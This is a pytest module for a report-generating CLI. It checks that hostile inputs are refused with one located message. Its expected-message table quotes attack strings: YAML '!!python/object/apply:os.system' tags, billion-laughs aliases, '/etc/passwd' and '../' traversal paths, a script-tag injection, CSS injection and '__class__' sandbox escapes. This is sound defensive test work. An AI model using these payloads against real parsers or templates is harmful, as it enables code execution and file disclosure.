"""Hostile and broken inputs of every kind: one located, actionable message, no traceback,
nothing written, in bounded time and memory.

The corpus is tests/fixtures/hostile/ (written by its make_fixtures.py from the valid
files in base/): answer files, questionnaires, rulebooks, brand files, user template
folders and CSV response tables. Each file goes through the command that consumes it, in
a separate process with a timeout and a 1.5 GB address-space limit:

- answer files:   diagnose report FILE --format json -o OUT/report.json
- questionnaires: diagnose template --questionnaire FILE -o OUT/blank.yaml
- rulebooks:      diagnose report ANSWERS --rules FILE --format json -o OUT/report.json
- brand files:    diagnose report ANSWERS --brand FILE --format html -o OUT/report.html
- templates:      diagnose report ANSWERS --rules RULES --templates DIR --format html -o OUT/report.html
- portfolio-*:    diagnose batch ANSWERS --templates DIR --out-dir OUT --format json --jobs 1   (exit 2, nothing written)
- CSV tables:     diagnose batch FILE --out-dir OUT --format json --jobs 1   (exit 1)

The malformed-answer corpus of tests/test_validate_corpus.py (YAML syntax, tabs, wrong
types and ranges, unknown ids, missing answers, other versions, ...) is not repeated here.
Cases that cannot be committed as files (50 MB inputs, unreadable files, read-only and
full output folders) are made in a temporary folder by the tests below the table; those
too large in some other way (10,000 keys, a 5 MB value, a 12,000 px logo) and the
questionnaire-naming files through more commands are in tests/test_hostile_limits.py.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
from pathlib import Path

import pytest
from hostile_helpers import (
    Run,
    leftovers,
    permissions_are_enforced,
    run_diagnose,
    run_many,
    small_file_size_limit,
    without_root_access,
)

from diagnose.batch.tables import MAX_TABLE_BYTES

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
ANSWERS = "base/answers.yaml"

# fixture -> the one line the user sees ({here} is the corpus folder, resolved)
EXPECTED: dict[str, str] = {
    'answers/billion-laughs-in-answers.yaml':
        "answers/billion-laughs-in-answers.yaml:14:16: alias '*lol0' is not allowed in this file; write the value out in full",
    'answers/binary-garbage.yaml':
        'answers/binary-garbage.yaml:2:62: file contains a NUL byte (binary data?); expected a UTF-8 text file',
    'answers/binary-tag.yaml':
        "answers/binary-tag.yaml:5:12: tag '!!binary' is not allowed: files hold plain data only",
    'answers/bom-then-cp1251.yaml':
        'answers/bom-then-cp1251.yaml:5:12: byte 0xce is not valid UTF-8 (it looks like Windows-1251); expected a UTF-8 text file, re-save it as UTF-8',
    'answers/company-bidi-override.yaml':
        'answers/company-bidi-override.yaml:5:12: meta.company: text holds U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible character that changes how the text reads (its order or its lines); expected plain text',
    'answers/company-is-a-list.yaml':
        'answers/company-is-a-list.yaml:5:12: meta.company: expected text, got a list',
    'answers/company-too-long.yaml':
        'answers/company-too-long.yaml:5:12: meta.company: text has 1099 characters, more than the 300 allowed',
    'answers/complex-key.yaml':
        "answers/complex-key.yaml:15:5: answers.('a', 'b'): unknown question id '('a', 'b')'",
    'answers/cp1251.yaml':
        'answers/cp1251.yaml:5:12: byte 0xce is not valid UTF-8 (it looks like Windows-1251); expected a UTF-8 text file, re-save it as UTF-8',
    'answers/custom-tag.yaml':
        "answers/custom-tag.yaml:5:12: tag '!env' is not allowed: files hold plain data only",
    'answers/date-february-30.yaml':
        "answers/date-february-30.yaml:10:9: meta.date: expected a date as YYYY-MM-DD, got '2026-02-30'",
    'answers/deep-flow-nesting.yaml':
        'answers/deep-flow-nesting.yaml:58:47: nesting is deeper than the 40 levels allowed',
    'answers/deep-nesting.yaml':
        'answers/deep-nesting.yaml:98:81: nesting is deeper than the 40 levels allowed',
    'answers/duplicate-meta-key.yaml':
        "answers/duplicate-meta-key.yaml:9:3: duplicate key 'consultant': each key may appear only once in a mapping",
    'answers/escaped-control-character.yaml':
        'answers/escaped-control-character.yaml:5:12: text holds the control character U+001B; expected printable text',
    'answers/escaped-surrogate.yaml':
        'answers/escaped-surrogate.yaml:5:12: text holds U+D800, half of a surrogate pair and not a character; expected valid Unicode text',
    'answers/float-max.yaml':
        'answers/float-max.yaml:33:21: answers.orders_per_month: expected a number of at least 0, got number 1.7e+308 (too large)',
    'answers/float-overflow.yaml':
        'answers/float-overflow.yaml:20:23: answers.sales_cycle_months: expected a number from 0 to 60, or dont_know, got number inf',
    'answers/huge-integer.yaml':
        'answers/huge-integer.yaml:32:19: a number written with 401 characters is far too large; expected a figure of at most 15 digits',
    'answers/industry-line-separator.yaml':
        'answers/industry-line-separator.yaml:6:13: meta.industry: text holds U+2028 (LINE SEPARATOR), an invisible character that changes how the text reads (its order or its lines); expected plain text',
    'answers/inf-percent.yaml':
        'answers/inf-percent.yaml:35:24: answers.top20_revenue_share: expected a number from 0 to 100, or dont_know, got number inf',
    'answers/meta-null.yaml':
        'answers/meta-null.yaml:4:7: meta: expected a mapping (company, industry, ...), got nothing',
    'answers/multi-as-mapping.yaml':
        'answers/multi-as-mapping.yaml:40:23: answers.am_internal_stages: expected a list of at least 1 of: purchasing, in_plant_transport, production_scheduling, quality_testing, shipping_logistics, customs, invoicing_payments, none, got a mapping',
    'answers/nan-as-text.yaml':
        "answers/nan-as-text.yaml:32:19: answers.active_clients: expected a whole number of at least 0, got 'NaN'",
    'answers/nan-number.yaml':
        'answers/nan-number.yaml:34:22: answers.minutes_per_order: expected a number of at least 0, or dont_know, got number nan',
    'answers/negative-inf.yaml':
        'answers/negative-inf.yaml:20:23: answers.sales_cycle_months: expected a number from 0 to 60, or dont_know, got number -inf',
    'answers/nul-in-a-value.yaml':
        'answers/nul-in-a-value.yaml:5:18: file contains a NUL byte (binary data?); expected a UTF-8 text file',
    'answers/merge-key.yaml':
        "answers/merge-key.yaml:15:3: '<<' (a YAML merge key) is not allowed in this file; write the keys out",
    'answers/null-key.yaml':
        "answers/null-key.yaml:14:3: answers.None: unknown question id 'None'",
    'answers/only-a-scalar.yaml':
        "answers/only-a-scalar.yaml:1:1: file holds the single value 'sales-structure', expected a YAML mapping of 'key: value' lines",
    'answers/python-name-tag.yaml':
        "answers/python-name-tag.yaml:5:12: tag '!!python/name:os.system' is not allowed: files hold plain data only",
    'answers/python-tag-directive.yaml':
        "answers/python-tag-directive.yaml:7:12: tag '!!python/object/apply:os.system' is not allowed: files hold plain data only",
    'answers/questionnaire-absolute-path.yaml':
        "answers/questionnaire-absolute-path.yaml:2:16: questionnaire: unknown questionnaire '/etc/passwd'; expected one of the bundled questionnaires: sales-structure",
    'answers/questionnaire-bundled-rulebook.yaml':
        "answers/questionnaire-bundled-rulebook.yaml:2:16: questionnaire: unknown questionnaire 'sales-structure.rules' (did you mean 'sales-structure'?); expected one of the bundled questionnaires: sales-structure",
    'answers/questionnaire-example-file.yaml':
        "answers/questionnaire-example-file.yaml:2:16: questionnaire: unknown questionnaire 'examples/small-distributor'; expected one of the bundled questionnaires: sales-structure",
    'answers/questionnaire-parent-path.yaml':
        "answers/questionnaire-parent-path.yaml:2:16: questionnaire: unknown questionnaire '../tests/fixtures/hostile/base/rulebook'; expected one of the bundled questionnaires: sales-structure",
    'answers/raw-control-character.yaml':
        'answers/raw-control-character.yaml:5:18: the control character U+001B is not allowed in YAML; expected printable text',
    'answers/sexagesimal-company.yaml':
        'answers/sexagesimal-company.yaml:7:12: a number written with 9001 characters is far too large; expected a figure of at most 15 digits',
    'answers/tag-bool-maybe.yaml':
        "answers/tag-bool-maybe.yaml:38:20: the tag '!!bool' says this is a yes/no value, but 'maybe' is not one; remove the tag or write true or false",
    'answers/tag-float-half.yaml':
        "answers/tag-float-half.yaml:34:22: the tag '!!float' says this is a number, but 'half' is not one; remove the tag or write a number such as 2.5",
    'answers/tag-int-0x.yaml':
        "answers/tag-int-0x.yaml:32:19: the tag '!!int' says this is a whole number, but '0x' is not one; remove the tag or write digits only, such as 12",
    'answers/tag-int-5000-digits.yaml':
        'answers/tag-int-5000-digits.yaml:32:19: a number written with 5001 characters is far too large; expected a figure of at most 15 digits',
    'answers/tag-int-abc.yaml':
        "answers/tag-int-abc.yaml:32:19: the tag '!!int' says this is a whole number, but 'abc' is not one; remove the tag or write digits only, such as 12",
    'answers/tag-null-text.yaml':
        "answers/tag-null-text.yaml:7:15: the tag '!!null' says this is an empty value, but 'Mark Ellison' is not one; remove the tag or write nothing after the colon",
    'answers/two-documents.yaml':
        'answers/two-documents.yaml:58:1: YAML syntax error: but found another document (expected a single document in the stream that starts at line 2, column 1)',
    'answers/utf16-with-bom.yaml':
        'answers/utf16-with-bom.yaml:1:1: file is UTF-16 encoded; expected a UTF-8 text file, re-save it as UTF-8',
    'answers/utf16-without-bom.yaml':
        'answers/utf16-without-bom.yaml:1:1: file is UTF-16 encoded; expected a UTF-8 text file, re-save it as UTF-8',
    'answers/utf32.yaml':
        'answers/utf32.yaml:1:1: file is UTF-32 encoded; expected a UTF-8 text file, re-save it as UTF-8',
    'answers/version-nan.yaml':
        "answers/version-nan.yaml:3:10: version: this file answers version number nan of 'sales-structure', but the questionnaire is version 1; check the answers against the current questions and update 'version'",
    'answers/yaml-1.3-directive.yaml':
        "answers/yaml-1.3-directive.yaml:1:1: '%YAML 1.3' names a YAML version this tool does not read; expected YAML 1.2 (delete the %YAML line)",
    'brand/billion-laughs.yaml':
        "brand/billion-laughs.yaml:2:14: alias '*lol0' is not allowed in this file; write the value out in full",
    'brand/colour-css-injection.yaml':
        "brand/colour-css-injection.yaml:6:12: colors.primary: 'red; } body { background: url(file://...' is not a colour; expected a hex code such as '#1f3a5f'",
    'brand/duplicate-key.yaml':
        "brand/duplicate-key.yaml:4:1: duplicate key 'name': each key may appear only once in a mapping",
    'brand/logo-absolute-path.yaml':
        "brand/logo-absolute-path.yaml:4:7: logo: '/etc/passwd.png' is outside the brand file's folder ({here}/brand); expected a file next to the brand file or below it",
    'brand/logo-damaged-png.yaml':
        "brand/logo-damaged-png.yaml:4:7: logo: 'damaged.png' is damaged or cut short; expected a PNG image that opens (re-export the logo)",
    'brand/logo-file-url.yaml':
        "brand/logo-file-url.yaml:4:7: logo: 'file:///etc/passwd' is a URL; expected a file path relative to the brand file",
    'brand/logo-http-url.yaml':
        "brand/logo-http-url.yaml:4:7: logo: 'http://example.com/logo.png' is a URL; expected a file path relative to the brand file",
    'brand/logo-not-an-image.yaml':
        "brand/logo-not-an-image.yaml:4:7: logo: 'not-a-png.png' does not hold PNG data; expected a real PNG image (re-export the logo)",
    'brand/logo-outside-folder.yaml':
        "brand/logo-outside-folder.yaml:4:7: logo: '../base/logo.svg' is outside the brand file's folder ({here}/brand); expected a file next to the brand file or below it",
    'brand/logo-svg-entities.yaml':
        "brand/logo-svg-entities.yaml:4:7: logo: 'entities.svg' declares a DOCTYPE or entities; expected a plain SVG file (re-export the logo)",
    'brand/logo-svg-use-bomb.yaml':
        "brand/logo-svg-use-bomb.yaml:4:7: logo: 'use-bomb.svg' draws more than 10,000 shapes once its <use> and url(#...) references are written out; expected a simple logo (re-export it)",
    'brand/name-is-a-mapping.yaml':
        'brand/name-is-a-mapping.yaml:3:7: name: expected text, got a mapping',
    'brand/name-too-long.yaml':
        'brand/name-too-long.yaml:3:7: name: text has 449 characters, more than the 300 allowed',
    'brand/python-tag.yaml':
        "brand/python-tag.yaml:3:7: tag '!!python/object/apply:os.system' is not allowed: files hold plain data only",
    'csv/binary.csv':
        'csv/binary.csv:2:62: file contains a NUL byte (binary data?); expected a UTF-8 text file',
    'csv/control-character.csv':
        'csv/control-character.csv:2:7: the control character U+001B is not allowed in a table; expected printable text',
    'csv/duplicate-column.csv':
        "csv/duplicate-column.csv:1:3: columns[3]: column 'company_stage' answers 'company_stage' again (column 2 already does)",
    'csv/empty.csv':
        'csv/empty.csv:1:1: file is empty, expected a header row and one row per company',
    'csv/header-only.csv':
        'csv/header-only.csv:2:1: the table has a header but no rows',
    'csv/huge-number-cell.csv':
        "csv/huge-number-cell.csv:2:17: answers.orders_per_month: expected a number of at least 0, got '1e400'",
    'csv/infinity-cell.csv':
        "csv/infinity-cell.csv:2:19: answers.top20_revenue_share: expected a number from 0 to 100, or dont_know, got 'inf'",
    'csv/nan-cell.csv':
        "csv/nan-cell.csv:2:16: answers.active_clients: expected a whole number of at least 0, got 'nan'",
    'csv/no-company-column.csv':
        "csv/no-company-column.csv:1:1: columns: no 'company' column; expected one naming each company",
    'csv/nul-byte.csv':
        'csv/nul-byte.csv:2:7: file contains a NUL byte (binary data?); expected a UTF-8 text file',
    'csv/utf8-then-cp1251.csv':
        'csv/utf8-then-cp1251.csv:2:1: byte 0xce is not valid UTF-8 (it looks like Windows-1251); expected a UTF-8 text file, re-save it as UTF-8',
    'csv/unknown-choice-cell.csv':
        "csv/unknown-choice-cell.csv:2:3: answers.company_stage: '<script>alert(1)</script>' is not a choice; expected one of: startup, growth, mature, restructuring",
    'csv/unknown-column.csv':
        "csv/unknown-column.csv:1:2: columns[2]: column 'compnay_stage' is neither a question id, a question's text nor a known field (did you mean 'company_stage'?)",
    'csv/utf16.csv':
        'csv/utf16.csv:1:1: file is UTF-16 encoded; expected a UTF-8 text file, re-save it as UTF-8',
    'questionnaire/billion-laughs.yaml':
        "questionnaire/billion-laughs.yaml:2:14: alias '*lol0' is not allowed in this file; write the value out in full",
    'questionnaire/computed-negates-text.yaml':
        "questionnaire/computed-negates-text.yaml:43:11: computed[0].expr: '-' works on numbers, but the 'if ... else' can be text, in condition '-(hunter_count if has_hunters == 'yes' else 'none')'",
    'questionnaire/condition-nested-too-deep.yaml':
        "questionnaire/condition-nested-too-deep.yaml:29:18: sections[0].questions[3].show_if: the condition '((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((…' is nested too deeply; split it into an 'all:' or 'any:' list of small conditions",
    'questionnaire/condition-python-escape.yaml':
        "questionnaire/condition-python-escape.yaml:29:18: sections[0].questions[3].show_if: attribute access '.__mro__' is not allowed in condition 'has_hunters.__class__.__mro__ == 1'; a condition may use answers, numbers, 'texts', [lists], comparisons, and/or/not, + - * / and the functions min, max, count, abs, round",
    'questionnaire/condition-too-long.yaml':
        "questionnaire/condition-too-long.yaml:29:18: sections[0].questions[3].show_if: the condition has 2876 characters, more than the 2000 allowed; split it into an 'all:' or 'any:' list of small conditions",
    'questionnaire/cp1251.yaml':
        'questionnaire/cp1251.yaml:6:13: byte 0xcc is not valid UTF-8 (it looks like Windows-1251); expected a UTF-8 text file, re-save it as UTF-8',
    'questionnaire/deep-nesting.yaml':
        'questionnaire/deep-nesting.yaml:84:81: nesting is deeper than the 40 levels allowed',
    'questionnaire/duplicate-key.yaml':
        "questionnaire/duplicate-key.yaml:5:1: duplicate key 'version': each key may appear only once in a mapping",
    'questionnaire/empty.yaml':
        'questionnaire/empty.yaml:1:1: file is empty, expected a YAML mapping',
    'questionnaire/languages-duplicate.yaml':
        "questionnaire/languages-duplicate.yaml:5:17: languages[1]: language 'ru' is listed twice; list each language once",
    'questionnaire/languages-empty.yaml':
        'questionnaire/languages-empty.yaml:5:12: languages: expected at least one language code, such as [ru, en], got an empty list',
    'questionnaire/max-huge.yaml':
        'questionnaire/max-huge.yaml:34:14: a number written with 401 characters is far too large; expected a figure of at most 15 digits',
    'questionnaire/min-nan.yaml':
        'questionnaire/min-nan.yaml:14:14: sections[0].questions[0].min: expected a number, got number nan',
    'questionnaire/python-tag.yaml':
        "questionnaire/python-tag.yaml:3:5: tag '!!python/object/new:subprocess.Popen' is not allowed: files hold plain data only",
    'questionnaire/utf16.yaml':
        'questionnaire/utf16.yaml:1:1: file is UTF-16 encoded; expected a UTF-8 text file, re-save it as UTF-8',
    'rulebook/billion-laughs.yaml':
        "rulebook/billion-laughs.yaml:2:14: alias '*lol0' is not allowed in this file; write the value out in full",
    'rulebook/condition-compares-number-with-text.yaml':
        "rulebook/condition-compares-number-with-text.yaml:49:11: rules[0].when.all[1]: '>' compares numbers, but the 'if ... else' can be text, in condition '('high' if load > 50 else 2) > 3'",
    'rulebook/condition-nested-too-deep.yaml':
        "rulebook/condition-nested-too-deep.yaml:49:11: rules[0].when.all[1]: the condition 'not not not not not not not not not not not not not not not …' is nested too deeply; split it into an 'all:' or 'any:' list of small conditions",
    'rulebook/condition-python-escape.yaml':
        "rulebook/condition-python-escape.yaml:49:11: rules[0].when.all[1]: attribute access '.__class__' is not allowed in condition 'load.__class__ == 1'; a condition may use answers, numbers, 'texts', [lists], comparisons, and/or/not, + - * / and the functions min, max, count, abs, round",
    'rulebook/deep-nesting.yaml':
        'rulebook/deep-nesting.yaml:96:81: nesting is deeper than the 40 levels allowed',
    'rulebook/duplicate-key.yaml':
        "rulebook/duplicate-key.yaml:10:5: duplicate key 'default': each key may appear only once in a mapping",
    'rulebook/indicator-huge-integer.yaml':
        "rulebook/indicator-huge-integer.yaml:40:11: indicators[0].expr: the number of 401 digits in condition 'am_operations_share * 10000000000000000000000000000000000...' is far too large; expected a figure of at most 15 digits",
    'rulebook/indicator-infinite.yaml':
        "rulebook/indicator-infinite.yaml:40:11: indicators[0].expr: a number written past 1e308 in condition '1e400' is far too large; expected a figure of at most 15 digits",
    'rulebook/indicator-negates-text.yaml':
        "rulebook/indicator-negates-text.yaml:40:11: indicators[0].expr: '-' works on numbers, but the 'if ... else' can be text, in condition '-('high' if am_operations_share > 50 else 2)'",
    'rulebook/indicator-round-digits.yaml':
        "rulebook/indicator-round-digits.yaml:40:11: indicators[0].expr: round() keeps from -15 to 15 digits, but 20 is asked for, in condition 'round(am_operations_share, 20)'",
    'rulebook/nul-byte.yaml':
        'rulebook/nul-byte.yaml:11:15: file contains a NUL byte (binary data?); expected a UTF-8 text file',
    'rulebook/parameter-huge.yaml':
        'rulebook/parameter-huge.yaml:9:14: parameters.high_load.default: expected a number, text or null, got number 1e+300 (too large)',
    'rulebook/parameter-inf.yaml':
        'rulebook/parameter-inf.yaml:9:14: parameters.high_load.default: expected a number, text or null, got number inf',
    'rulebook/parameter-nan.yaml':
        'rulebook/parameter-nan.yaml:9:14: parameters.high_load.default: expected a number, text or null, got number nan',
    'rulebook/python-tag.yaml':
        "rulebook/python-tag.yaml:11:13: tag '!!python/object/apply:os.system' is not allowed: files hold plain data only",
    'rulebook/text-attribute-access.yaml':
        "rulebook/text-attribute-access.yaml:54:42: rules[0].summary.en: '{load.__class__}' is not allowed in text: a value is written as {name} alone, without '.', '[', '!' or ':'",
    'rulebook/text-conversion.yaml':
        "rulebook/text-conversion.yaml:54:42: rules[0].summary.en: '{load!r}' is not allowed in text: a value is written as {name} alone, without '.', '[', '!' or ':'",
    'rulebook/text-lone-brace.yaml':
        "rulebook/text-lone-brace.yaml:54:42: rules[0].summary.en: a '{' or '}' that is not part of a {name} in text; write '{{' or '}}' for a brace itself",
    'rulebook/text-padding.yaml':
        "rulebook/text-padding.yaml:54:42: rules[0].summary.en: '{load:>999999999}' is not allowed in text: a value is written as {name} alone, without '.', '[', '!' or ':'",
    'rulebook/text-positional-field.yaml':
        "rulebook/text-positional-field.yaml:54:42: rules[0].summary.en: '{}' in text names no value; write {name} with the name of an answer, a computed value or a parameter",
    'rulebook/utf16.yaml':
        'rulebook/utf16.yaml:1:1: file is UTF-16 encoded; expected a UTF-8 text file, re-save it as UTF-8',
    'templates/huge-range':
        '{here}/templates/huge-range/report.html:1: the template failed: OverflowError: Range too big. The sandbox blocks ranges larger than MAX_RANGE (100000).',
    'templates/include-absolute-path':
        "{here}/templates/include-absolute-path: template '/etc/passwd' not found in the report templates",
    'templates/include-itself':
        '{here}/templates/include-itself/report.html:2: templates include or call each other without end',
    'templates/include-parent-folder':
        "{here}/templates/include-parent-folder: template '../../../../../../etc/passwd' not found in the report templates",
    'templates/portfolio-class-access':
        "{here}/templates/portfolio-class-access/portfolio.html:1: not allowed in a report template: access to attribute '__class__' of 'str' object is unsafe.",
    'templates/portfolio-syntax-error':
        "{here}/templates/portfolio-syntax-error/portfolio.html:2: Expected an expression, got 'end of statement block'",
    'templates/portfolio-undefined':
        "{here}/templates/portfolio-undefined/portfolio.html:2: 'no_such_field' is undefined; see the PortfolioContext fields in diagnose/batch/summary.py",
    'templates/python-class-access':
        "{here}/templates/python-class-access/report.html:1: not allowed in a report template: access to attribute '__class__' of 'str' object is unsafe.",
    'templates/texts-alias':
        "{here}/templates/texts-alias/texts.yaml:4:13: alias '*t' is not allowed in this file; write the value out in full",
    'templates/texts-billion-laughs':
        "{here}/templates/texts-billion-laughs/texts.yaml:3:14: alias '*lol0' is not allowed in this file; write the value out in full",
    'templates/texts-control-character':
        '{here}/templates/texts-control-character/texts.yaml:3:26: text holds the control character U+001B; expected printable text',
    'templates/texts-python-tag':
        "{here}/templates/texts-python-tag/texts.yaml:3:10: tag '!!python/object/apply:os.system' is not allowed: files hold plain data only",
}


def command(fixture: str, out: Path) -> tuple[list[str], int, Path]:
    """The command that consumes `fixture`, its expected exit code and what it must not write."""
    group = fixture.split("/")[0]
    if group == "answers":
        return ["report", fixture, "--format", "json", "-o", str(out / "report.json")], 2, out / "report.json"
    if group == "questionnaire":
        return ["template", "--questionnaire", fixture, "-o", str(out / "blank.yaml")], 2, out / "blank.yaml"
    if group == "rulebook":
        return ["report", ANSWERS, "--rules", fixture, "--format", "json", "-o", str(out / "report.json")], 2, \
            out / "report.json"
    if group == "brand":
        return ["report", ANSWERS, "--brand", fixture, "--format", "html", "-o", str(out / "report.html")], 2, \
            out / "report.html"
    if fixture.startswith("templates/portfolio-"):
        # the portfolio page belongs to a batch, which tries it before any report is made
        return ["batch", ANSWERS, "--templates", fixture, "--out-dir", str(out / "batch"), "--format", "json",
                "--jobs", "1"], 2, out / "batch" / "summary.json"
    if group == "templates":
        # the small base rulebook: the diagnosis comes before the templates and is not under test
        return ["report", ANSWERS, "--rules", "base/rulebook.yaml", "--templates", fixture, "--format", "html",
                "-o", str(out / "report.html")], 2, out / "report.html"
    assert group == "csv", fixture
    return ["batch", fixture, "--out-dir", str(out / "batch"), "--format", "json", "--jobs", "1"], 1, out / "batch"


def _reports(folder: Path) -> list[str]:
    """Report files in a batch output folder (the summary and the portfolio are expected)."""
    if not folder.exists():
        return []
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith(("summary.", "portfolio.")))


def assert_refused(run, expected_code: int, expected_line: str, target: Path) -> None:
    assert "Traceback" not in run.output, run.output
    assert run.code == expected_code, run.output
    if target.suffix:  # a single output file: absent, and no temporary file beside it
        lines = run.stderr.splitlines()
        assert lines == [expected_line], run.stderr
        assert not target.exists()
        assert leftovers(target.parent) == []
    else:  # a batch: the failure line, no report, no temporary file
        assert f"failed: {expected_line}\n" in run.stderr, run.stderr
        assert _reports(target) == []
        assert leftovers(target) == []


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Run, int, Path]]:
    """Every corpus file through its command, all in one fenced-in child process."""
    root = tmp_path_factory.mktemp("hostile")
    planned = {}
    for fixture in EXPECTED:
        out = root / fixture.replace("/", "--")
        out.mkdir()
        planned[fixture] = command(fixture, out)
    cases = {fixture: args for fixture, (args, _, _) in planned.items() if not fixture.startswith("csv/")}
    # the tables go through ONE batch: a bad input never stops the others, each is one line
    tables = sorted(f for f in planned if f.startswith("csv/"))
    batch_out = root / "batch"
    cases["csv"] = ["batch", *tables, "--out-dir", str(batch_out), "--format", "json", "--jobs", "1"]
    runs = run_many(cases, HOSTILE)
    result = {fixture: (runs[fixture], code, target) for fixture, (_, code, target) in planned.items()
              if fixture in runs}
    result.update({fixture: (runs["csv"], 1, batch_out) for fixture in tables})
    return result


@pytest.mark.parametrize("fixture", sorted(EXPECTED))
def test_hostile_input_is_refused_with_one_located_message(fixture: str, corpus) -> None:
    run, code, target = corpus[fixture]
    assert_refused(run, code, EXPECTED[fixture].replace("{here}", str(HOSTILE.resolve())), target)


def test_every_fixture_has_its_expected_message() -> None:
    on_disk = {str(p.relative_to(HOSTILE)) for p in HOSTILE.glob("*/*") if p.suffix in (".yaml", ".csv")}
    on_disk |= {str(p.relative_to(HOSTILE)) for p in (HOSTILE / "templates").iterdir()}
    on_disk -= {f"base/{name}" for name in ("answers.yaml", "questionnaire.yaml", "rulebook.yaml", "brand.yaml")}
    assert on_disk == set(EXPECTED)


def test_corpus_is_what_its_script_writes() -> None:
    spec = importlib.util.spec_from_file_location("make_hostile", HOSTILE / "make_fixtures.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    for relative, content in module.all_files().items():
        assert (HOSTILE / relative).read_bytes() == content, relative


def test_base_files_are_valid() -> None:
    """Each hostile file differs from a valid one by its one attack."""
    run = run_diagnose(["validate", "base/answers.yaml", "base/questionnaire.yaml", "base/rulebook.yaml",
                        "base/brand.yaml"], HOSTILE)
    assert run.code == 0, run.output
    assert run.stdout.count(": valid ") == 4


def test_total_hostile_and_broken_inputs_is_at_least_60() -> None:
    malformed = [p for p in (HOSTILE.parent / "invalid").rglob("*.yaml") if p.name != "valid.yaml"]
    lint = list((HOSTILE.parent / "rules" / "lint").glob("*.yaml"))
    assert len(EXPECTED) + len(GENERATED_CASES) >= 60
    assert len(EXPECTED) + len(GENERATED_CASES) + len(malformed) + len(lint) >= 120


# ----------------------------------------------------------------------------- made at test time

BIG = 50 * 1024 * 1024

GENERATED_CASES = [
    "50 MB answer file", "50 MB questionnaire", "50 MB rulebook", "50 MB brand file", "257 MB CSV",
    "50 MB texts.yaml", "answer file is a folder", "questionnaire is a folder", "rulebook is a folder",
    "brand file is a folder", "templates folder is a file", "CSV is a folder", "unreadable answer file",
    "path through a file", "unreadable CSV", "read-only output folder (report)", "read-only output folder (batch)",
    "read-only output folder (template)", "full disk (report)", "full disk (batch)", "full stdout",
    "logo symlink out of the brand folder",
]


def _fifty_megabytes(path: Path, head: str) -> None:
    """A real 50 MB file: a valid head, then comment lines (CSV: rows) up to the size."""
    line = ("# " + "x" * 1021 + "\n") if path.suffix == ".yaml" else ("Filler," * 146 + "x\n")
    with path.open("w", encoding="utf-8") as handle:
        handle.write(head)
        handle.write(line * ((BIG - len(head)) // len(line) + 1))


@pytest.mark.parametrize("kind", ["answers", "questionnaire", "rulebook", "brand", "csv", "texts"])
def test_50_mb_file_is_refused_before_it_is_read(kind: str, tmp_path: Path) -> None:
    base = {"answers": "base/answers.yaml", "questionnaire": "base/questionnaire.yaml",
            "rulebook": "base/rulebook.yaml", "brand": "base/brand.yaml", "csv": "csv/nan-cell.csv",
            "texts": "base/brand.yaml"}[kind]
    head = (HOSTILE / base).read_text(encoding="utf-8")
    if kind == "texts":
        (tmp_path / "templates").mkdir()
        big = tmp_path / "templates" / "texts.yaml"
        head = "kind: report_texts\n"
    else:
        big = tmp_path / f"big-{kind}{Path(base).suffix}"
    if kind == "csv":
        # a table is read as a stream, so 50 MB is only rows to go through; over its own cap
        # (a sparse file: the size is all that is looked at) it is refused unread
        big.write_text(head, encoding="utf-8")
        os.truncate(big, MAX_TABLE_BYTES + 1024 * 1024)
    else:
        _fifty_megabytes(big, head)
    assert big.stat().st_size >= BIG
    out = tmp_path / "out"
    out.mkdir()
    fixture = {"texts": f"templates/{big.parent.name}", "csv": f"csv/{big.name}"}.get(kind, f"{kind}/{big.name}")
    args, code, target = command(fixture, out)
    args = [str(big.parent) if a == fixture and kind == "texts" else str(big) if a == fixture else a for a in args]
    args = [str(HOSTILE / a) if a.startswith("base/") else a for a in args]
    run = run_diagnose(args, tmp_path)
    if kind == "csv":  # batch names inputs relative to where it runs
        assert_refused(run, code, f"{big.name}: file is 257.0 MB, larger than the 256 MB a table may have", target)
    else:
        assert_refused(run, code, f"{big}: file is 50.0 MB, larger than the 5 MB an input may have", target)


@pytest.mark.parametrize(("option", "name"), [
    (None, "answers.yaml"), ("--questionnaire", "questionnaire.yaml"), ("--rules", "rules.yaml"),
    ("--brand", "brand.yaml"),
])
def test_folder_where_a_file_is_expected(option: str | None, name: str, tmp_path: Path) -> None:
    folder = tmp_path / name
    folder.mkdir()
    out = tmp_path / "report.json"
    if option is None:
        args = ["report", str(folder), "--format", "json", "-o", str(out)]
        message = f"Error: Invalid value for 'ANSWERS': File '{folder}' is a directory."
    else:
        args = ["report", str(HOSTILE / ANSWERS), option, str(folder), "--format", "json", "-o", str(out)]
        message = f"Error: Invalid value for '{option}': File '{folder}' is a directory."
    run = run_diagnose(args, tmp_path)
    assert "Traceback" not in run.output
    assert run.code == 2
    assert run.stderr.splitlines()[-1] == message
    assert not out.exists() and leftovers(tmp_path) == []


def test_templates_option_naming_a_file(tmp_path: Path) -> None:
    not_a_folder = tmp_path / "templates.html"
    not_a_folder.write_text("<p>hi</p>")
    out = tmp_path / "report.html"
    run = run_diagnose(["report", str(HOSTILE / ANSWERS), "--templates", str(not_a_folder), "--format", "html",
                        "-o", str(out)], tmp_path)
    assert run.code == 2 and "Traceback" not in run.output
    assert run.stderr.splitlines()[-1] == f"Error: Invalid value for '--templates': Directory '{not_a_folder}' is a file."
    assert not out.exists()


def test_batch_csv_that_is_a_folder_holding_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "responses.csv"
    folder.mkdir()
    run = run_diagnose(["batch", str(folder), "--out-dir", str(tmp_path / "out"), "--jobs", "1"], tmp_path)
    assert run.code == 2 and "Traceback" not in run.output
    assert run.stderr.splitlines() == [f"{folder}: no answer files (*.yaml, *.yml) or tables (*.csv, *.xlsx) found"]
    assert not (tmp_path / "out").exists()


@pytest.fixture
def unprivileged(tmp_path: Path):
    """The `extra` for run_diagnose that makes file permissions bind, even for root."""
    if not permissions_are_enforced(tmp_path):
        pytest.skip("this machine lets root read chmod-000 files and cannot drop that power")
    return without_root_access


def test_unreadable_answer_file(tmp_path: Path, unprivileged) -> None:
    secret = tmp_path / "answers.yaml"
    shutil.copy(HOSTILE / ANSWERS, secret)
    secret.chmod(0)
    out = tmp_path / "report.json"
    run = run_diagnose(["report", str(secret), "--format", "json", "-o", str(out)], tmp_path, extra=unprivileged)
